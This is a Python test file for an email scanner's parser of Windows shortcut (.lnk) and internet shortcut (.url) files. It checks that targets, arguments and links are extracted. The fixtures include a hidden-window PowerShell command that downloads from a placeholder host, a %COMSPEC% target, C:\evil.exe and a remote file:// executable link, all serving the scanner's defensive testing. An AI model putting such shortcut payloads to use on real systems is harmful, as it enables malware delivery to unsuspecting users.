import struct

import pytest

from services.scanner.mail import Found, Link
from services.scanner.parsing.limits import Allowance
from services.scanner.parsing.shortcuts import read_shortcut, read_web_shortcut
from tests.support.documents import shortcut


def test_target_and_arguments_are_read() -> None:
    opened = read_shortcut(shortcut("..\\powershell.exe", "-w hidden iwr https://x9.example/a"), Allowance())

    assert opened.command == "..\\powershell.exe -w hidden iwr https://x9.example/a"
    assert [each.url for each in opened.links] == ["https://x9.example/a"]


def test_a_target_with_variables_wins() -> None:
    block = struct.pack("<II", 788, 0xA0000001) + b"%COMSPEC%".ljust(260, b"\0") + bytes(520)

    opened = read_shortcut(shortcut("notes.txt", "/c calc")[:-4] + block + bytes(4), Allowance())

    assert opened.command == "%COMSPEC% /c calc"


def test_the_local_path_of_the_target_is_read() -> None:
    info = struct.pack("<7I", 28 + 12, 28, 1, 0, 28, 0, 0) + b"C:\\evil.exe\0"
    head = bytearray(shortcut("x"))[:0x4C]
    head[0x14:0x18] = struct.pack("<I", 0x02 | 0x80)

    assert read_shortcut(bytes(head) + info, Allowance()).command == "C:\\evil.exe"


@pytest.mark.parametrize("length", [4, 0x16, 0x4D, 0x50])
def test_a_cut_off_shortcut_does_no_harm(length: int) -> None:
    assert read_shortcut(shortcut("calc.exe", "1")[:length], Allowance()).links == ()


def test_an_internet_shortcut_leads_somewhere() -> None:
    opened = read_web_shortcut(b"[InternetShortcut]\r\nURL=file://x9.example/share/a.exe\r\nIconIndex=1", Allowance())

    assert opened.links == (Link("file://x9.example/share/a.exe", found=Found.ATTACHMENT),)
